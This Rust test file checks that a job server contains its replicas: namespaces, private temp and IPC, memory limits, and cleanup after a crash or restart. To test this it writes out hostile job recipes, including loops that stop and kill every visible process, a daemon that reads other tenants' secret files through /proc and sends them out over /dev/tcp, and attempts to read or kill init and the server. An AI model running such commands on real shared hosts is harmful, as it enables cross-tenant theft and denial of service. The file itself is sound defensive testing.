//! Replica containment, tried as an attacker would from inside a job: each
//! replica is PID 1 (our init) of its own pid, mount and IPC namespaces,
//! with private /tmp, /var/tmp, /dev/shm and a tmpfs workspace, and the
//! whole namespace dies with the replica and with the server.
//! Tests that need root say so when skipped; CI runs as root.

mod common;

use std::io::{BufRead, BufReader, Read};
use std::net::{SocketAddr, TcpListener};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use common::*;
use nix::sys::signal::{kill, Signal};
use nix::unistd::Pid;

/// Processes whose real uid is in [lo, hi).
fn processes_with_uid(lo: u32, hi: u32) -> Vec<u32> {
    processes().into_iter().filter(|p| p.uid >= lo && p.uid < hi).map(|p| p.pid).collect()
}

/// Processes whose command line contains `marker`.
fn processes_with_marker(marker: &str) -> Vec<u32> {
    processes()
        .into_iter()
        .filter(|p| {
            std::fs::read(format!("/proc/{}/cmdline", p.pid))
                .is_ok_and(|c| String::from_utf8_lossy(&c).contains(marker))
        })
        .map(|p| p.pid)
        .collect()
}

fn slot_base(port: u16) -> u32 {
    1_000_000 + u32::from(port) * 64
}

fn finished(c: &Cluster, t: u32) -> serde_json::Value {
    let st = c.wait_status(t, |s| s["status"] == "COMPLETED" || s["status"] == "INVALID");
    st["replicas"][0].clone()
}

/// A server started by hand (for restarts on the same work dir, and for
/// running it as another user): its child, address and collected log.
struct Server {
    child: Child,
    addr: SocketAddr,
    log: Arc<Mutex<String>>,
}

impl Server {
    fn start(cmd: Command) -> Server {
        Server::try_start(cmd).unwrap_or_else(|e| panic!("cloud-server did not start: {e}"))
    }

    fn try_start(mut cmd: Command) -> Result<Server, String> {
        let mut child = spawn_copied(cmd.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::piped()));
        let mut lines = BufReader::new(child.stderr.take().expect("stderr"));
        let mut line = String::new();
        let mut got = String::new();
        let mut before = String::new();
        while lines.read_line(&mut line).unwrap_or(0) > 0 {
            if line.contains("listening on") || line.starts_with("cloud-server:") {
                got = line.clone();
                break;
            }
            before.push_str(&line);
            line.clear();
        }
        let addr = got.split("listening on ").nth(1).and_then(|r| r.split(' ').next()).and_then(|a| a.parse().ok());
        let Some(addr) = addr else {
            let _ = child.kill();
            let _ = child.wait();
            return Err(got);
        };
        let log = Arc::new(Mutex::new(before + &got));
        let sink = log.clone();
        std::thread::spawn(move || {
            let mut buf = [0u8; 4096];
            while let Ok(n @ 1..) = lines.read(&mut buf) {
                sink.lock().unwrap().push_str(&String::from_utf8_lossy(&buf[..n]));
            }
        });
        Ok(Server { child, addr, log })
    }

    fn cloud(&self, args: &[&str]) -> std::process::Output {
        Command::new(client()).args(args).arg("--server").arg(self.addr.to_string()).output().expect("client")
    }

    fn deploy(&self, archive: &Path) -> u32 {
        let out = self.cloud(&["deploy", "1", archive.to_str().unwrap()]);
        assert!(out.status.success(), "deploy failed: {}", String::from_utf8_lossy(&out.stderr));
        let s = String::from_utf8_lossy(&out.stdout);
        s.lines().next().and_then(|l| l.strip_prefix("Job ticket#: ")).and_then(|t| t.parse().ok()).expect("ticket")
    }

    /// Retrieve into `dir` and return replica 0's output.
    fn output(&self, t: u32, dir: &Path) -> String {
        let out_dir = dir.join(format!("out-{t}-{}", self.addr.port()));
        let out = self.cloud(&["retrieve", &t.to_string(), out_dir.to_str().unwrap()]);
        let _ = out;
        let e = std::fs::read_dir(&out_dir).expect("outputs").flatten().next().expect("one output");
        std::fs::read_to_string(e.path()).unwrap()
    }

    fn alive(&self) -> bool {
        kill(Pid::from_raw(self.child.id() as i32), None).is_ok()
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        let _ = kill(Pid::from_raw(self.child.id() as i32), Signal::SIGTERM);
        let _ = self.child.wait();
    }
}

/// A job that SIGSTOPs and SIGKILLs every process it can see, from a
/// setsid'd daemon with a scrubbed environment, over and over: its time
/// limit still fires, its node is freed, the next job on that node runs,
/// nothing of it is left, and the server stops on SIGTERM within 10 s.
#[test]
fn a_job_that_stops_and_kills_everything_it_sees_cannot_hold_the_node() {
    if !need_root("a_job_that_stops_and_kills_everything_it_sees_cannot_hold_the_node") {
        return;
    }
    // With slot uids, and with every node sharing one uid (nobody).
    for extra in [&[][..], &["--no-slot-uids", "--run-as", "nobody"][..]] {
        let mut args = vec!["--time-limit", "3", "--kill-grace", "1"];
        args.extend_from_slice(extra);
        let mut c = Cluster::start_with(1, &args);
        let d = c.dir.path();
        let marker = format!("cloud-stopper-{}", c.ports[0]);
        let attack = ": MARK; while :; do kill -STOP -1; kill -9 -1; for p in /proc/[0-9]*; do q=$${p#/proc/}; \
                      [ $$q = $$$$ ] || kill -STOP $$q; done; done";
        let recipe = [
            format!("@env -i setsid bash -c '{}' </dev/null >/dev/null 2>&1 &", attack.replace("MARK", &marker)),
            "@kill -STOP -1; sleep 1000".to_string(),
        ];
        let t = c.deploy(1, &job(d, "stop.tar.gz", &recipe));
        let r = finished(&c, t);
        assert_eq!(r["status"], "INVALID", "{extra:?}: {r}");
        let msg = r["message"].as_str().unwrap();
        assert!(msg.contains("time limit") || msg.contains("killed by signal"), "{extra:?}: {r}");
        // The node is free and the next job on it is not hit by a survivor.
        let next = c.deploy(1, &job(d, "next.tar.gz", &["@sleep 2; echo next job ran"]));
        let r = finished(&c, next);
        assert_eq!(r["status"], "COMPLETED", "{extra:?}: {r}");
        assert!(c.retrieve(next).0);
        c.wait_no_children();
        let lo = slot_base(c.ports[0]);
        let survivors = || {
            let mut v = processes_with_marker(&marker);
            if extra.is_empty() {
                v.extend(processes_with_uid(lo, lo + 1));
            }
            v
        };
        assert!(survivors().is_empty(), "{extra:?}: survivors {:?}", survivors());
        // Again, and stop the server while it runs.
        let t3 = c.deploy(1, &job(d, "stop2.tar.gz", &recipe));
        // It may already have been ended by its own kill -9 -1 of make.
        c.wait_status(t3, |s| s["status"] != "WAITING");
        let start = Instant::now();
        let status = c.terminate().expect("server exits");
        assert!(status.success(), "{extra:?}");
        assert!(start.elapsed() < Duration::from_secs(10), "SIGTERM took {:?}", start.elapsed());
        assert!(survivors().is_empty(), "{extra:?}: survivors after shutdown {:?}", survivors());
    }
}

/// A daemon of tenant A, then `kill -9` of the server, then a restart on
/// the same work dir, then tenant B with a secret: nothing of A survives
/// (by uid and by marker) and B's secret never reaches A's daemon.
#[test]
fn nothing_of_a_job_survives_a_server_killed_with_sigkill() {
    if !need_root("nothing_of_a_job_survives_a_server_killed_with_sigkill") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let ports: Vec<u16> = {
        let ls: Vec<TcpListener> = (0..2).map(|_| TcpListener::bind("127.0.0.1:0").unwrap()).collect();
        ls.iter().map(|l| l.local_addr().unwrap().port()).collect()
    };
    let nodes = dir.path().join("nodes.txt");
    std::fs::write(&nodes, format!("1\n{}\n", ports[0])).unwrap();
    let work = dir.path().join("work");
    let base = slot_base(ports[1]);
    let command = || {
        let mut cmd = Command::new(SERVER);
        cmd.args(["--slot-uids", &base.to_string(), "--listen", "127.0.0.1:0", "--allow-network"])
            .args(["--time-limit", "120"])
            .arg("--nodes")
            .arg(&nodes)
            .arg("--work-dir")
            .arg(&work);
        cmd
    };
    // What the daemon manages to read, it sends here.
    let exfil = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = exfil.local_addr().unwrap().port();
    let stolen = Arc::new(Mutex::new(String::new()));
    let sink = stolen.clone();
    std::thread::spawn(move || {
        for s in exfil.incoming().flatten() {
            let mut text = String::new();
            let _ = (&s).take(1 << 20).read_to_string(&mut text);
            sink.lock().unwrap().push_str(&text);
        }
    });
    let marker = format!("cloud-daemon-{}", ports[0]);
    let loop_ = format!(
        "while :; do for f in /proc/[0-9]*/cwd/secret.txt /proc/[0-9]*/root{}/output_*/*/work/secret.txt {}/output_*/*/work/secret.txt; do cat \\$$f; done 2>/dev/null | (exec 3<>/dev/tcp/127.0.0.1/{port} && cat >&3); sleep 0.2; done",
        work.display(),
        work.display()
    );
    let recipe = [
        format!("@setsid bash -c 'exec -a {marker} bash -c \"{loop_}\"' </dev/null >/dev/null 2>&1 &"),
        "@sleep 1000".into(),
    ];
    let a = job(dir.path(), "a.tar.gz", &recipe);
    let mut s1 = Server::start(command());
    s1.deploy(&a);
    wait_until("tenant A's daemon runs", || !processes_with_marker(&marker).is_empty());
    let _ = kill(Pid::from_raw(s1.child.id() as i32), Signal::SIGKILL);
    let _ = s1.child.wait();
    // The kernel ends the replica with its server (no restart needed for that).
    wait_until("tenant A's daemon died with the server", || processes_with_marker(&marker).is_empty());
    let s2 = Server::start(command());
    let secret = format!("s3cret-{}", ports[0]);
    let b = job(dir.path(), "b.tar.gz", &[format!("@echo {secret} > secret.txt; sleep 3; echo b done")]);
    let tb = s2.deploy(&b);
    assert!(s2.output(tb, dir.path()).contains("b done"));
    assert!(processes_with_marker(&marker).is_empty(), "A's daemon survived the restart");
    assert!(!stolen.lock().unwrap().contains(&secret), "A's daemon read B's secret");
    wait_until("no process of the slot uid is left", || processes_with_uid(base, base + 1).is_empty());
    drop(s1);
}

/// /tmp, /var/tmp, /dev/shm and SysV IPC are the replica's own: a job
/// running beside it sees none of it, and nothing of it is left on the
/// host once its ticket is closed.
#[test]
fn tmp_shm_and_sysv_ipc_are_private_and_gone_with_the_replica() {
    let c = Cluster::start_with(2, &["--allow-network"]);
    let d = c.dir.path();
    let gate = Gate::new();
    let mark = format!("cloud-leftover-{}", c.ports[0]);
    let mut recipe = vec![format!(
        "@for t in /tmp /var/tmp /dev/shm; do echo x > $$t/{mark} && echo wrote $$t; done; ipcmk -M 4096; ipcmk -Q; ipcs -m | grep -c 4096 || true"
    )];
    recipe.extend(gate.wait_recipe("a"));
    let ta = c.deploy(1, &job(d, "a.tar.gz", &recipe));
    let (_, conn) = gate.arrive();
    // B runs while A holds its files and segments.
    let look = format!("@ls /tmp /var/tmp /dev/shm; ipcs -m; ipcs -q; ls /tmp/{mark} /dev/shm/{mark} 2>&1 || true");
    let tb = c.deploy(1, &job(d, "b.tar.gz", &[look]));
    let (ok, outs) = c.retrieve(tb);
    assert!(ok, "{outs:?}");
    assert!(!outs[0].1.contains("wrote"), "{}", outs[0].1);
    assert!(outs[0].1.contains("No such file"), "B saw A's files: {}", outs[0].1);
    assert!(!outs[0].1.contains("4096"), "B saw A's shared memory: {}", outs[0].1);
    release(conn);
    let (ok, outs) = c.retrieve(ta);
    assert!(ok, "{outs:?}");
    let out = &outs[0].1;
    assert!(out.contains("wrote /tmp") && out.contains("wrote /dev/shm"), "{out}");
    c.wait_no_children();
    for t in ["/tmp", "/var/tmp", "/dev/shm"] {
        assert!(!Path::new(t).join(&mark).exists(), "{t}/{mark} left on the host");
    }
    // No SysV segment or queue of a replica is left on the host (they
    // would belong to the slot uids or to the server's own user).
    let owners: Vec<u32> = if is_root() {
        (slot_base(c.ports[0])..slot_base(c.ports[0]) + 2).collect()
    } else {
        vec![nix::unistd::getuid().as_raw()]
    };
    for table in ["/proc/sysvipc/shm", "/proc/sysvipc/msg"] {
        let text = std::fs::read_to_string(table).unwrap_or_default();
        let header: Vec<&str> = text.lines().next().unwrap_or("").split_whitespace().collect();
        let uid_col = header.iter().position(|h| *h == "uid").unwrap_or(usize::MAX);
        let size_col = header.iter().position(|h| *h == "size" || *h == "cbytes").unwrap_or(usize::MAX);
        for line in text.lines().skip(1) {
            let f: Vec<&str> = line.split_whitespace().collect();
            let uid: u32 = f.get(uid_col).and_then(|u| u.parse().ok()).unwrap_or(u32::MAX);
            let ours = owners.contains(&uid) && (table.ends_with("msg") || f.get(size_col) == Some(&"4096"));
            assert!(!ours, "a replica's SysV object is left on the host: {line}");
        }
    }
}

/// A job sees only its own namespace's processes: a fresh /proc in which
/// our init is PID 1 (not make), and the server is nowhere.
#[test]
fn a_job_sees_only_its_own_processes() {
    let c = Cluster::start(1);
    let server = c.pid();
    let recipe = [format!(
        "@echo count $$(ls /proc | grep -c '^[0-9]'); echo init $$(cat /proc/1/comm); echo self $$$$; test -e /proc/{server} && echo server visible; true"
    )];
    let t = c.deploy(1, &job(c.dir.path(), "ps.tar.gz", &recipe));
    let (ok, outs) = c.retrieve(t);
    assert!(ok, "{outs:?}");
    let out = &outs[0].1;
    let count: usize = out.lines().find_map(|l| l.strip_prefix("count ")).unwrap().trim().parse().unwrap();
    assert!(count <= 6, "a job sees {count} processes: {out}");
    assert!(!out.contains("init make"), "make must not be PID 1: {out}");
    assert!(out.contains("init cloud-init"), "our init is PID 1: {out}");
    assert!(!out.contains("server visible"), "{out}");
}

/// Our init catches no signal at all (the Rust runtime's SIGSEGV and
/// SIGBUS handlers, inherited from the server, are reset), so the kernel
/// drops every signal a job sends it: a job's `kill -SEGV 1` is not
/// delivered, and the job goes on to its end.
#[test]
fn init_catches_no_signal_a_job_could_send() {
    let c = Cluster::start(1);
    let recipe = ["@grep SigCgt /proc/1/status; kill -SEGV 1; kill -BUS 1; echo still here".to_string()];
    let t = c.deploy(1, &job(c.dir.path(), "sig.tar.gz", &recipe));
    let (ok, outs) = c.retrieve(t);
    assert!(ok, "{outs:?}");
    let out = &outs[0].1;
    assert!(out.contains("SigCgt:\t0000000000000000"), "init catches signals: {out}");
    assert!(out.contains("still here"), "{out}");
}

/// Init unpacks the archive as the slot's user (then starts the job
/// sharing its memory): a job of that same user still cannot read init's
/// environment, descriptors or memory (init is not dumpable), nor stop or
/// kill it (PID 1 of the namespace, no handlers): its `kill -STOP 1;
/// kill -KILL 1` change nothing, and its end is reported, which needs
/// init running.
#[test]
fn a_job_of_inits_own_user_cannot_read_stop_or_kill_it() {
    if !need_root("a_job_of_inits_own_user_cannot_read_stop_or_kill_it") {
        return;
    }
    let c = Cluster::start(1);
    let recipe = ["@grep '^Uid' /proc/1/status; echo job $$(id -u); \
                   cat /proc/1/environ >/dev/null && echo read init environ; \
                   ls /proc/1/fd >/dev/null && echo listed init fds; \
                   head -c1 /proc/1/mem >/dev/null && echo read init memory; \
                   kill -STOP 1; kill -KILL 1; echo done"
        .to_string()];
    let t = c.deploy(1, &job(c.dir.path(), "init.tar.gz", &recipe));
    let (ok, outs) = c.retrieve(t);
    assert!(ok, "{outs:?}");
    let out = &outs[0].1;
    let uid = slot_base(c.ports[0]);
    assert!(out.contains(&format!("Uid:\t{uid}\t{uid}\t{uid}\t{uid}")) && out.contains(&format!("job {uid}")), "{out}");
    for leak in ["read init environ", "listed init fds", "read init memory"] {
        assert!(!out.contains(leak), "{leak}: {out}");
    }
    assert!(out.contains("done"), "{out}");
}

/// A 20,000-deep directory chain and 200,000 files: the server answers
/// STATUS fast while they go, and they are gone within a minute.
#[test]
fn deep_and_wide_trees_go_without_blocking_the_server() {
    trees_go_without_blocking_the_server(&[], 200_000);
}

/// The same with `--uncontained`, where the trees are on disk and removed
/// by a child process. (Fewer files: on a disk each costs the job far more
/// to make than on a tmpfs, and any tree on the reactor thread would show.)
#[test]
fn uncontained_deep_and_wide_trees_go_without_blocking_the_server() {
    trees_go_without_blocking_the_server(&["--uncontained"], 50_000);
}

/// The two tree tests measure latency while the kernel frees 200,000
/// inodes: run at once on 2 cores they starve each other's STATUS client
/// of CPU (hundreds of ms) whatever the server does, so they take turns.
static TREES: Mutex<()> = Mutex::new(());

fn trees_go_without_blocking_the_server(extra: &[&str], files: u32) {
    let _turn = TREES.lock().unwrap_or_else(|e| e.into_inner());
    let c = Cluster::start_with(2, extra);
    let d = c.dir.path();
    let deep = "@perl -e 'for (1..20000) { mkdir q(d) or die $$!; chdir q(d) or die $$! } print qq(deep made\\n)'";
    let wide =
        format!("@perl -e 'for (1..{files}) {{ open F, q(>), qq(f$$_) or die $$!; close F }} print qq(wide made\\n)'");
    let probe = c.deploy(1, &job(d, "probe.tar.gz", &["@echo hi"]));
    assert!(c.retrieve(probe).0);
    let stop = Arc::new(std::sync::atomic::AtomicBool::new(false));
    let worst = Arc::new(Mutex::new(Duration::ZERO));
    let watcher = {
        let (stop, worst) = (stop.clone(), worst.clone());
        let addr = c.addr.to_string();
        std::thread::spawn(move || {
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                let t0 = Instant::now();
                let out = Command::new(client()).args(["status", &probe.to_string(), "--server", &addr]).output();
                let took = t0.elapsed();
                assert!(out.is_ok());
                let mut w = worst.lock().unwrap();
                *w = (*w).max(took);
            }
        })
    };
    let td = c.deploy(1, &job(d, "deep.tar.gz", &[deep]));
    let tw = c.deploy(1, &job(d, "wide.tar.gz", &[wide]));
    for (t, what) in [(td, "deep made"), (tw, "wide made")] {
        let (ok, outs) = c.retrieve(t);
        assert!(ok && outs[0].1.contains(what), "{outs:?}");
    }
    // Both tickets are closed now: their trees go within a minute.
    wait_within(Duration::from_secs(60), "the trees' folders are gone", || node_leftovers(&c).is_empty());
    c.wait_no_children();
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    watcher.join().unwrap();
    let worst = *worst.lock().unwrap();
    eprintln!("worst STATUS round trip (client process included) while the trees went: {worst:?}");
    assert!(worst < Duration::from_millis(500), "a STATUS round trip took {worst:?} while the trees went");
}

/// Without root, replicas run in a user namespace: a job that tries to
/// kill or inspect the server (it does not even see it) fails, and the
/// server serves the next job.
#[test]
fn without_root_a_job_cannot_touch_the_server() {
    if !need_root("without_root_a_job_cannot_touch_the_server") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let top = dir.path();
    std::fs::set_permissions(top, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let bin = top.join("bin");
    std::fs::create_dir(&bin).unwrap();
    let server_bin = bin.join("cloud-server");
    std::fs::copy(SERVER, &server_bin).unwrap();
    let work = top.join("work");
    std::fs::create_dir(&work).unwrap();
    nix::unistd::chown(&work, Some(nix::unistd::Uid::from_raw(65534)), Some(nix::unistd::Gid::from_raw(65534)))
        .unwrap();
    let port = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let nodes = top.join("nodes.txt");
    std::fs::write(&nodes, format!("1\n{port}\n")).unwrap();
    let mut cmd = Command::new(&server_bin);
    cmd.args(["--listen", "127.0.0.1:0", "--time-limit", "30"]).arg("--nodes").arg(&nodes).arg("--work-dir").arg(&work);
    as_user(&mut cmd, 65534);
    let s = match Server::try_start(cmd) {
        Ok(s) => s,
        Err(e) if e.contains("user namespaces") => {
            eprintln!("SKIPPED without_root_a_job_cannot_touch_the_server: this kernel refuses unprivileged user namespaces: {e}");
            return;
        }
        Err(e) => panic!("cloud-server did not start: {e}"),
    };
    assert!(s.log.lock().unwrap().contains("user+pid+mount+ipc+net namespaces"), "{}", s.log.lock().unwrap());
    let pid = s.child.id();
    let recipe = [format!(
        "@kill -STOP {pid}; kill -9 {pid}; cat /proc/{pid}/environ && echo read the server; cat /proc/1/environ && echo read init; ls {} && echo saw the work dir; echo tried; kill -9 -1",
        work.join(format!("output_{port}")).display()
    )];
    let t = s.deploy(&job(top, "evil.tar.gz", &recipe));
    let out = s.output(t, top);
    assert!(out.contains("tried"), "{out}");
    assert!(!out.contains("read the server"), "{out}");
    assert!(!out.contains("read init"), "the job could inspect its init: {out}");
    assert!(s.alive(), "the job killed the server");
    let state = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap();
    assert!(!state.split(") ").nth(1).unwrap().starts_with('T'), "the job stopped the server");
    let t2 = s.deploy(&job(top, "next.tar.gz", &["@echo next job ran"]));
    assert!(s.output(t2, top).contains("next job ran"));

    // Its jobs have its user's file permissions, so it takes jobs from that
    // user (and root) alone: another local user is refused before uploading.
    let client_bin = bin.join("cloud");
    std::fs::copy(client(), &client_bin).unwrap();
    let archive = job(top, "mine.tar.gz", &["@echo owner job ran"]);
    std::fs::set_permissions(&archive, std::os::unix::fs::PermissionsExt::from_mode(0o644)).unwrap();
    let deploy_as = |uid: u32| {
        let mut cmd = Command::new(&client_bin);
        cmd.args(["deploy", "1", archive.to_str().unwrap(), "--server", &s.addr.to_string()]);
        as_user(&mut cmd, uid);
        spawn_copied(cmd.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped())).wait_with_output().unwrap()
    };
    let other = deploy_as(65533);
    let err = String::from_utf8_lossy(&other.stderr);
    assert!(!other.status.success() && err.contains("--allow-other-users"), "{err}");
    assert_eq!(err.lines().count(), 1, "one line: {err}");
    let owner = deploy_as(65534);
    assert!(owner.status.success(), "the server's own user deploys: {}", String::from_utf8_lossy(&owner.stderr));
}

/// `--uncontained` is the explicit way to run jobs without namespaces, and
/// the ready line says so; the default names the containment.
#[test]
fn the_ready_line_names_the_containment() {
    let c = Cluster::start(1);
    let want = if is_root() { "replicas contained: pid+mount+ipc+net namespaces" } else { "replicas contained: user+" };
    assert!(c.log().contains(want), "{}", c.log());
    let c = Cluster::start_with(1, &["--uncontained"]);
    assert!(c.log().contains("jobs are NOT contained"), "{}", c.log());
    let t = c.deploy(1, &job(c.dir.path(), "plain.tar.gz", &["@echo plain job"]));
    let (ok, outs) = c.retrieve(t);
    assert!(ok && outs[0].1 == "plain job\n", "{outs:?}");
}

/// Where the host has cgroups, `--max-memory` is a total for the whole
/// job, not a limit per process: five processes of 100 MiB each under
/// `--max-memory 300M` do not all get their memory.
#[test]
fn the_memory_limit_counts_every_process_of_a_job() {
    if !need_root("the_memory_limit_counts_every_process_of_a_job") {
        return;
    }
    let c = Cluster::start_with(1, &["--max-memory", "300M", "--time-limit", "60"]);
    if c.log().contains("no cgroups") {
        assert!(std::env::var("CI").is_err(), "CI hosts have cgroups: {}", c.log());
        eprintln!("SKIPPED the_memory_limit_counts_every_process_of_a_job: {}", c.log());
        return;
    }
    let hog = "perl -e '$$x = q(a) x (100 << 20); print qq(held\\n); sleep 3'";
    let recipe = [format!("@for i in 1 2 3 4 5; do {hog} & done; wait")];
    let t = c.deploy(1, &job(c.dir.path(), "hog.tar.gz", &recipe));
    let r = finished(&c, t);
    let (_, outs) = c.retrieve(t);
    let held = outs[0].1.lines().filter(|l| *l == "held").count();
    assert!(held < 5, "five processes held 100 MiB each under --max-memory 300M: {r} {}", outs[0].1);
    assert_eq!(r["status"], "INVALID", "{r}");
    assert!(r["message"].as_str().unwrap().contains("memory limit (--max-memory) exceeded"), "{r}");
    // The node goes on.
    let t2 = c.deploy(1, &job(c.dir.path(), "ok.tar.gz", &["@echo fine"]));
    assert!(c.retrieve(t2).0);
}

/// At start the server kills what still runs under its slot uids (left by
/// an earlier run that could not stop it) and says so in its log.
#[test]
fn at_start_processes_of_the_slot_uids_are_reclaimed() {
    if !need_root("at_start_processes_of_the_slot_uids_are_reclaimed") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let port = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let base = slot_base(port);
    let mut leftover = Command::new("sleep");
    leftover.arg("1000");
    as_user(&mut leftover, base);
    let mut leftover = leftover.spawn().unwrap();
    let nodes = dir.path().join("nodes.txt");
    std::fs::write(&nodes, format!("1\n{port}\n")).unwrap();
    let mut cmd = Command::new(SERVER);
    cmd.args(["--slot-uids", &base.to_string(), "--listen", "127.0.0.1:0"])
        .arg("--nodes")
        .arg(&nodes)
        .arg("--work-dir")
        .arg(dir.path().join("work"));
    let s = Server::start(cmd);
    let deadline = Instant::now() + Duration::from_secs(20);
    let status = loop {
        if let Some(status) = leftover.try_wait().unwrap() {
            break status;
        }
        if Instant::now() > deadline {
            let _ = leftover.kill();
            let _ = leftover.wait();
            panic!("the leftover process of slot uid {base} was not reclaimed");
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    assert!(!status.success(), "the leftover process was not killed: {status:?}");
    let log = s.log.lock().unwrap().clone();
    assert!(log.contains(&format!("reclaimed 1 processes of slot uids {base}..{base}")), "{log}");
}
